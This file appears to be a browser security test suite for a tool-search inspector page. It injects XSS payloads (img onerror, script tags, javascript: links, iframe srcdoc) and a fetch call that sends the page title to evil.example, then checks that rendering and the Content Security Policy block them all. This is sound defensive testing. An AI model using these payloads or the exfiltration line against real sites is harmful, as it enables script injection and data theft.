import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import fc from 'fast-check';
import { inspectorHtml } from 'mastra-tool-search/inspect';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { manyTools } from '../bench/inspect/catalog.ts';
import { anyText } from '../support/any-text.ts';
import { noChromium, useChromium } from '../support/chromium.ts';
import { useInspectPage } from '../support/inspect-page.ts';
import { plain } from './catalog.ts';
import { hostileTools } from './hostile-tools.ts';
import { goTo, settled, useInspectors } from './page/pages.ts';

const tools = hostileTools();
const cases = tools
  .filter(({ name }) => /^tool_/.test(name))
  .map(({ name }) => ({ query: `<img src=x onerror=ran()> ${name}`, relevant: [name] }));
const options = { tools, cases, title: `</title><script>globalThis.ran = 'title'</script>` };

/** What a text of a tool leaves where it ran. */
const MARK = `String(globalThis.ran ?? document.documentElement.dataset.ran ?? '')`;

describe.skipIf(noChromium !== undefined)(`the page in Chromium${noChromium ? `, skipped: ${noChromium}` : ''}`, () => {
  useInspectPage();
  const chromium = useChromium();
  const start = useInspectors();
  const folder = mkdtempSync(path.join(tmpdir(), 'inspect-'));
  afterAll(() => rmSync(folder, { recursive: true }));
  const fileOf = async (of: Parameters<typeof inspectorHtml>[0]): Promise<string> => {
    const file = path.join(folder, `${Math.random()}.html`);
    writeFileSync(file, await inspectorHtml(of));
    return pathToFileURL(file).href;
  };
  let served = '';
  beforeAll(async () => {
    served = (await start(options)).url;
  });

  it.each([
    ['from the server', {}, tools],
    ['from a file on a small screen', { width: 400, theme: 'dark' as const }, tools.slice(-3)],
  ])('lets hostile tools do nothing in any view: %s', async (how, view, some) => {
    const { page, problems } = await chromium.open(how.includes('server') ? served : await fileOf(options), view);
    await settled(page);
    for (const hash of ['#/search', '#/tools', '#/cases', '#/cases?by=pairs', '#/cases?by=servers'])
      await goTo(page, hash);
    for (const { name } of some) await goTo(page, `#/tools/${encodeURIComponent(name)}`);
    for (const query of ['<script>ran()</script> email', '"><img src=x onerror=ran()>', '{{ran()}}', '__proto__'])
      await goTo(page, `#/search?${new URLSearchParams({ q: query, want: 'tool_3' })}`);
    expect([await page.evaluate(MARK), await page.locator('main img').count(), problems]).toEqual(['', 0, []]);
  });

  it('lets nothing be loaded or sent but its own questions, even if a text became a script', async () => {
    const { page, problems } = await chromium.open(served);
    // The token is not in the address, and not needed again.
    expect(new URL(page.url()).search).toBe('');
    await page.reload();
    await settled(page);
    const question = JSON.stringify({ ask: 'permitted', requestContext: {} });
    const asked = { method: 'POST', headers: { 'content-type': 'application/json' }, body: question };
    const ask = `fetch(location.href, ${JSON.stringify(asked)}).then((response) => response.json())`;
    expect(await page.evaluate(ask)).toMatchObject({ search: expect.arrayContaining(['send_email']) });
    expect(problems).toEqual([]);
    const tried = await page.evaluate<readonly string[]>(`(async () => {
      const element = document.createElement('div');
      document.body.append(element);
      element.innerHTML = '<img src=x onerror="globalThis.ran = 1"><a href="javascript:ran()">x</a><iframe srcdoc="<script>parent.ran = 1</script>"></iframe>';
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = 2';
      document.body.append(script);
      const sent = await fetch('https://evil.example/?' + document.title).then(() => 'sent', () => 'refused');
      await new Promise((resolve) => setTimeout(resolve, 200));
      return [sent, String(globalThis.ran)];
    })()`);
    expect(tried).toEqual(['refused', 'undefined']);
    expect(problems.length).toBeGreaterThan(3);
    expect(problems.every((problem) => /Content Security Policy/.test(problem))).toBe(true);
    const context = await page.context().browser()?.newContext({ bypassCSP: true });
    const other = await context!.newPage();
    const answered = other.waitForEvent('response');
    await other.setContent(`<iframe src="${served}"></iframe>`);
    await answered;
    await expect.poll(() => other.frames()[1]?.url()).toMatch(/^chrome-error:/);
  });

  const shown: readonly [text: string, shown: string, why: string][] = [
    ['Grüße\n\tan alle.', 'Grüße\n\tan alle.', 'is plain'],
    ['a\u202eb', 'a\\u{202e}b', 'reorders what is seen'],
    ['a\u200bb\u2060c', 'a\\u{200b}b\\u{2060}c', 'has nothing between its letters'],
    ['a\u0000\u001bb\u0085', 'a\\u{0}\\u{1b}b\\u{85}', 'has control characters'],
    ['\u{e0041}', '\\u{e0041}', 'has tags'],
    ['a\ud800', 'a\\u{d800}', 'has half a character'],
    ['\u2028', '\\u{2028}', 'has a line break that looks like none'],
    ['👩‍💻 ⚠️ Grüße 日本', '👩‍💻 ⚠️ Grüße 日本', 'has emoji and letters of the world'],
    ['a\u200db', 'a\\u{200d}b', 'joins letters as if they were emoji'],
    ['Ze\u0301\u0301\u0301\u0301\u0301.', 'Ze\u0301\u0301\u0301….', 'has more marks than a line has room for'],
    ['<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>', 'is markup, which stays text'],
  ];

  it('shows a text of the data as text, apart from its surroundings, and hides nothing of it', async () => {
    const known = shown.map(([text]) => `q${text}`);
    const some = fc.sample(anyText(), 80).map((text) => `q${text}`);
    const ofTexts = [...known, ...some].map((query) => ({ query, relevant: ['get_time'] }));
    const url = await fileOf({ tools: [plain('get_time', 'Tell the time.')], cases: ofTexts });
    const { page, problems } = await chromium.open(`${url}#/cases?only=all`);
    await settled(page);
    const queries = await page.locator('table.cases tbody th bdi').allTextContents();
    expect(queries).toHaveLength(known.length + some.length);
    for (const [, text, why] of shown) expect(queries, why).toContain(`q${text}`);
    const hidden = /(?![\n\t])[\p{Cc}\u061c\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u;
    expect(queries.filter((text) => hidden.test(text))).toEqual([]);
    expect(problems).toEqual([]);
  });

  it('searches 5,000 tools as you type, key by key, and lists them without an element for each', async () => {
    const { url } = await start({ tools: manyTools(5_000) });
    const { page, problems } = await chromium.open(`${url}#/search`);
    await page.locator('header').getByText('5,000 tools').waitFor();
    await page.locator('[data-search]').pressSequentially('take a screenshot of the page');
    // The address follows when nothing more is typed.
    await page.waitForURL(/screenshot\+of\+the\+page/);
    await page.locator('.ranked [data-row]').first().filter({ hasText: 'screenshot' }).waitFor();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await page.waitForURL(/#\/tools\/\w*screenshot/);
    await page.getByText('Definition as it is sent').waitFor();
    await page.keyboard.press('3');
    await page.locator('[data-row]').nth(40).waitFor();
    expect(await page.locator('[data-row]').count()).toBeLessThan(500);
    expect(problems).toEqual([]);
  });
});
